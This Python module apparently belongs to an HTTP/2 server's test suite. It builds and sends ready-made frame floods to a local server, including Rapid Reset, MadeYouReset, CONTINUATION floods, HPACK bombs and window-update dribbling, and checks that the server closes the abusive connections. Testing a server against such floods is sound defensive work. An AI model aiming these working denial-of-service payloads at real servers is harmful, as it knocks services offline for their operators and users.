"""Attacks on a server of HTTP/2, one for each row of the table in docs/http2.md: their frames are made beforehand and
sent in large writes, so that the attacker does less than the server."""

import selectors
import socket
import ssl
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from .http2 import PREFACE

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PRIORITY_UPDATE, UNKNOWN = 16, 0x55
END_STREAM = ACK = 1
END_HEADERS, PADDED = 4, 8
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
CANCEL = struct.pack(">I", 8)
# Blocks of HPACK that name fields of the static table, and change no table (RFC 7541 appendix A): GET or POST, http,
# "/", and ":authority: a".
GET, POST = b"\x82\x86\x84\x01\x01a", b"\x83\x86\x84\x01\x01a"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def stream_of(number):
    return 1 + 2 * number


def get(number, more=b""):
    """HEADERS of a whole request. more: a block of further fields."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream_of(number), GET + more)


def post(number, more=b""):
    """HEADERS of a request whose body is to come."""
    return frame(HEADERS, END_HEADERS, stream_of(number), POST + more)


def settings(**values):
    names = {"header_table_size": HEADER_TABLE_SIZE, "initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", names[name], value) for name, value in values.items()))


def window(size, stream=0):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def bomb(entry, index=b"\xbe"):
    """A head of one frame: an entry for the decoder's table, named again by one byte each time."""
    return lambda i: get(i, entry + index * (16_000 - len(entry)))


@dataclass(frozen=True)
class Flood:
    """begin: bytes that come first. unit(i): the i-th piece of the attack. kinds: labels of stint_http2_glitches_total,
    one of which counts it; none: the connection ends for a mistake. most: after so many pieces the connection must end.
    step: pieces that are sent at once, before so many frames `reply`, or a GOAWAY, have come back; 0: all at once."""

    name: str
    unit: Callable[[int], bytes]
    kinds: tuple = ()
    begin: bytes = b""
    most: int = 1000
    step: int = 0
    reply: int = RST_STREAM
    acknowledges: bool = True
    settings: bytes = field(default=frame(SETTINGS))

    def prepared(self, count=None):
        """The writes of an attack of `count` pieces: of each the bytes, and how many replies are awaited then."""
        count = count or self.most
        acknowledged = frame(SETTINGS, ACK) if self.acknowledges else b""
        step = self.step or count
        writes = [(PREFACE + self.settings + acknowledged + self.begin, 0)]
        for first in range(0, count, step):
            pieces = [self.unit(i) for i in range(first, min(first + step, count))]
            writes.append((b"".join(pieces), len(pieces) if self.step else 0))
        return writes


NO_MORE = 1 << 40  # replies, that a GOAWAY stands for

LARGE_FIELD = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000  # of the decoder's table, where its index is 62
HUNDRED = b"".join(post(i) for i in range(100))
OPEN = post(0)
CLOSED = OPEN + frame(RST_STREAM, 0, 1, CANCEL)

FLOODS = (
    Flood("rapid reset", lambda i: get(i) + frame(RST_STREAM, 0, stream_of(i), CANCEL), ("reset_received", "flood")),
    Flood("rapid reset, 50 at a time", lambda i: b"".join(
        get(50 * i + j) + frame(RST_STREAM, 0, stream_of(50 * i + j), CANCEL) for j in range(50)) + frame(
            PING, 0, 0, bytes(8)), ("reset_received", "flood"), most=20, step=1, reply=PING),
    # MadeYouReset: what ends the connection at once, and what only resets the stream.
    Flood("window update of 0", lambda i: post(i) + window(0, stream_of(i))),
    Flood("priority of a wrong length", lambda i: post(i) + frame(PRIORITY, 0, stream_of(i), b"1234")),
    Flood("priority on itself", lambda _: frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 1)), ("priority",), OPEN),
    Flood("heads on half-closed streams", lambda i: get(i) + get(i)),
    Flood("data on half-closed streams", lambda i: get(i) + frame(DATA, 0, stream_of(i), b"x")),
    Flood("window overflow", lambda i: post(i) + window(2**31 - 1, stream_of(i)), ("reset_sent",), step=50),
    Flood("body longer than stated", lambda i: post(i, b"\x0f\x0d\x011") + frame(DATA, 0, stream_of(i), b"xy"),
          ("reset_sent",), step=50),
    Flood("connection field", lambda i: get(i, b"\0\x0aconnection\x01x"), ("reset_sent",), step=50),
    Flood("settings not acknowledged, streams refused", lambda i: post(100 + i), ("reset_sent",), HUNDRED, step=50,
          acknowledges=False),
    Flood("streams in one read", get, ("reset_sent", "late_stream", "flood"), acknowledges=False),
    Flood("streams refused", lambda i: post(100 + i), begin=HUNDRED),
    Flood("continuation", lambda i: frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"), ("flood",),
          frame(HEADERS, 0, 1, GET)),
    Flood("continuation without bytes", lambda i: frame(CONTINUATION, 0, 1), ("flood",), frame(HEADERS, 0, 1, GET)),
    Flood("HPACK bomb, large values", bomb(LARGE_FIELD), ("header_list",), most=20),
    Flood("HPACK bomb, empty fields", bomb(b"\x40\x01x\x00"), ("header_list",), most=20),
    Flood("HPACK bomb, cookie crumbs", bomb(b"\x60\x01a"), ("header_list",), most=20),
    Flood("HPACK bomb in trailers",
          lambda i: post(i) + frame(HEADERS, END_HEADERS | END_STREAM, stream_of(i),
                                    LARGE_FIELD + b"\xbe" * (16_000 - len(LARGE_FIELD))), ("header_list",), most=20),
    Flood("heads of 300 fields", lambda i: get(i, b"\x90" * 300), ("header_list",), most=100, step=1, reply=HEADERS),
    Flood("ping", lambda _: frame(PING, 0, 0, bytes(8)), ("ping", "flood")),
    Flood("ping acknowledgements", lambda _: frame(PING, ACK, 0, bytes(8)), ("ping",)),
    Flood("settings", lambda _: frame(SETTINGS), ("settings", "flood")),
    Flood("settings that resize tables", lambda i: settings(header_table_size=4096 * (i % 2)), ("settings", "flood")),
    Flood("settings acknowledgements", lambda _: frame(SETTINGS, ACK)),
    Flood("priority", lambda i: frame(PRIORITY, 0, stream_of(i), struct.pack(">IB", 0, 1)), ("priority",)),
    Flood("priority update", lambda i: frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream_of(i)) + b"u=1"),
          ("priority",)),
    Flood("unknown frames", lambda _: frame(UNKNOWN, 0, 0, b"abc"), ("unknown_frame",)),
    Flood("empty data", lambda _: frame(DATA, 0, 1), ("empty_data",), OPEN),
    Flood("data of padding alone", lambda _: frame(DATA, PADDED, 1, b"\0"), ("empty_data",), OPEN),
    Flood("window updates of 1 byte, connection", lambda _: window(1), ("window_update",)),
    Flood("window updates of 1 byte, stream", lambda _: window(1, 1), ("window_update",), OPEN),
    Flood("window updates of a closed stream", lambda _: window(1, 1), ("window_update",), CLOSED),
    Flood("goaway", lambda _: frame(GOAWAY, 0, 0, bytes(8)), ("goaway",), OPEN),
    Flood("heads of a closed stream", lambda _: get(0), ("late_stream",), CLOSED),
    Flood("resets of a closed stream", lambda _: frame(RST_STREAM, 0, 1, CANCEL), ("reset_received",), CLOSED),
    # Bytes without use, which nothing but their number tells from those of an upload that was refused.
    Flood("data of a closed stream", lambda _: frame(DATA, 0, 1, b"x"), begin=CLOSED, most=1_000_000),
)

# Clients that ask for what they do not take: their streams end, and then the connection, when its times are over.
LARGE = b"\x82\x86\x04\x06/65536\x01\x01a"  # GET /65536
HOLDS = (
    Flood("windows of streams never opened", lambda i: frame(HEADERS, END_HEADERS | END_STREAM, stream_of(i), LARGE),
          most=100, settings=settings(initial_window_size=0)),
    Flood("window of the connection never opened",
          lambda i: frame(HEADERS, END_HEADERS | END_STREAM, stream_of(i), LARGE),
          most=100, settings=settings(initial_window_size=1 << 20)),
)


# Each WINDOW_UPDATE is answered by a DATA frame of one byte, if the responses are long.
DRIBBLE = Flood(
    "windows opened byte by byte",
    lambda i: b"".join(window(1, stream_of(j)) for j in range(20)) + frame(PING, 0, 0, bytes(8)), ("window_update",),
    b"".join(get(i) for i in range(20)), step=1, reply=PING, most=75, settings=settings(initial_window_size=0))


@dataclass
class Outcome:
    closed: bool
    seconds: float  # from the first write of the attack until its connection was closed, or the attacker gave up
    sent: int       # bytes
    told: bool      # by a GOAWAY


class Attacker:
    """Plays prepared writes on one connection after the other. Not the attacker's time is to count: it looks into
    what comes only where it waits for replies."""

    def __init__(self, port, writes, reply=RST_STREAM, context=None):
        self._port, self._writes, self._reply, self._context = port, writes, reply, context

    def play(self, seconds=10.0, patience=None) -> Outcome:
        """One connection, until it is closed, but so long at most. patience: seconds for the replies to one write,
        after which the next is sent, and for the close after the last."""
        with self._connected() as sock:
            self._received, self._replies, self._closed = b"", 0, False
            begun, awaited, sent = time.monotonic(), 0, 0
            end = begun + seconds
            with selectors.DefaultSelector() as selector:
                selector.register(sock, selectors.EVENT_READ)
                for data, replies in self._writes:
                    sent += self._write(sock, selector, memoryview(data), end)
                    awaited += replies
                    until = min(end, time.monotonic() + patience) if patience else end
                    self._read_until(sock, selector, until, awaited if replies else None)
                    if self._closed or time.monotonic() >= end:
                        break
                until = min(end, time.monotonic() + patience) if patience else end
                self._read_until(sock, selector, until, 2 * NO_MORE * NO_MORE)
            return Outcome(self._closed, time.monotonic() - begun, sent, self._replies >= NO_MORE)

    def _connected(self):
        sock = socket.create_connection(("127.0.0.1", self._port), 10)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self._context:
            sock = self._context.wrap_socket(sock, server_hostname="localhost")
        sock.setblocking(False)
        return sock

    def _write(self, sock, selector, data, end):
        done = 0
        while done < len(data) and not self._closed and time.monotonic() < end:
            try:
                done += sock.send(data[done:done + (1 << 20)])
                continue
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                selector.modify(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
                selector.select(max(0.0, end - time.monotonic()))
                selector.modify(sock, selectors.EVENT_READ)
            except OSError:
                self._closed = True
            self._read(sock)
        return done

    def _read_until(self, sock, selector, end, replies):
        """Reads what has come; replies: until there are so many."""
        self._read(sock)
        while replies is not None and self._replies < replies and not self._closed:
            left = end - time.monotonic()
            if left <= 0:
                return
            selector.select(left)
            self._read(sock)

    def _read(self, sock):
        try:
            while not self._closed:
                data = sock.recv(1 << 18)
                self._closed = not data
                self._count(data)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self._closed = True

    def _count(self, data):
        """Counts the replies among the frames that have come."""
        data, at = self._received + data, 0
        while len(data) - at >= 9:
            size = int.from_bytes(data[at:at + 3], "big")
            if len(data) - at < 9 + size:
                break
            self._replies += NO_MORE if data[at + 3] == GOAWAY else data[at + 3] == self._reply
            at += 9 + size
        self._received = data[at:]
